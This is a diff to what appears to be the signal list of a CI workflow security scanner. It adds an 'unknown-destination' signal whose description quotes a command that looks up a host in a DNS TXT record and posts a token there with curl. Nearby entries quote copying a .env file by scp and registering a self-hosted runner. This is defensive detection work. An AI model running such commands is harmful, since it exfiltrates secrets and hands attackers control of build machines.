@@ -114,6 +114,7 @@ signals! {
     LogsInFirst = "logs-in-first", Excuse, "It goes to a machine that the job logs in to, in a job that also builds or checks out: `scp .env deploy@192.0.2.1:`.";
     StartsRunner = "starts-runner", Hiding, "The machine of the job becomes a self-hosted runner: `./config.sh --url … --token …`.";
     GrantsAccess = "grants-access", Hiding, "A workflow gives somebody access: a deploy key, a collaborator, a repository made public.";
+    UnknownDestination = "unknown-destination", Place, "Where it goes is only known when it runs: the host comes out of a file, a command or another machine's answer: `H=$(dig +short TXT c.example); curl -d \"$T\" \"https://$H/\"`.";
     OutsidersCommands = "outsiders-commands", Hiding, "On a machine of the owner's own, a job does nothing but run text that any outsider may write.";
     DateConflict = "date-conflict", Weak, "Author's and committer's time, or two sources of a time, differ by more than 24 hours.";
     WritesWorkflow = "writes-workflow", Hiding, "A workflow writes a workflow.";
